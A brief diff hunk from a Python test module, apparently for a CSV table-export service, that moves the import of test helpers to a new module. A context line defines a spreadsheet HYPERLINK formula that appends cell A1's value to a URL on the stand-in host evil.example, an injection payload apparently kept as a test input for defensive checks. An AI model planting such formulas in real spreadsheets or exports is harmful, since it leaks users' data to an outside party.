@@ -8,7 +8,7 @@ import csv
 import io
 
 from tests.service.helpers import wait_for_job
-from tests.service.test_tables import small_network, submit, upload
+from tests.service.table_helpers import small_network, submit, upload
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
